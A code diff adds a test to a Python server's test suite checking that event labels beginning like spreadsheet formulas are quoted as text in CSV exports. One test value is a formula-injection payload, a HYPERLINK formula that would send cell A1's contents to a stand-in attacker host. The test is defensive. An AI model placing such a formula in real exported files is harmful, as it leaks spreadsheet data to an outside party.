@@ -6,9 +6,11 @@ loopback that refuses its first calls."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import functools
 import hashlib
 import hmac
+import io
 import json
 import signal
 import sqlite3
@@ -29,6 +31,7 @@ from fastapi.testclient import TestClient
 
 from benchmarks.events_bench import WebhookReceiver
 from engines.types import Detections
+from server.csv_cells import safe_cell
 from server.render import crop_jpeg
 from server.routes import events as events_route
 from server.settings import Settings
@@ -967,3 +970,20 @@ def test_the_ids_of_a_run_that_did_not_close_are_passed_over_not_missed(
         assert [e["id"] for e in page.events] == [100, 101, 102, 10100] and page.missed == 0
         assert log.kept_since is None and log.read(102, 10).missed == 0
         store.close()
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
+    """A manual event's label (a zone's or a line's name alike) that begins like a formula:
+    the counts CSV quotes it with ``'`` (``=HYPERLINK(...)`` was a live link in Excel)."""
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("-5") == "'-5" and safe_cell(-5) == -5 and safe_cell("gate") == "gate"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with TestClient(file_stream_app(tmp_path)) as c:
+        added = c.post("/streams", json={"url": f"file://{CAR_CLIP}", "id": "cam"})
+        assert added.status_code == 201, added.text
+        made = c.post("/streams/cam/events", json={"label": formula, "clip": False})
+        assert made.status_code == 201, made.text
+        assert made.json()["label"] == formula  # kept as given; only the CSV cell is quoted
+        table = c.get("/events/counts", params={"by": "label", "format": "csv"})
+        rows = list(csv.DictReader(io.StringIO(table.text)))
+        assert [r["label"] for r in rows] == ["'" + formula], table.text
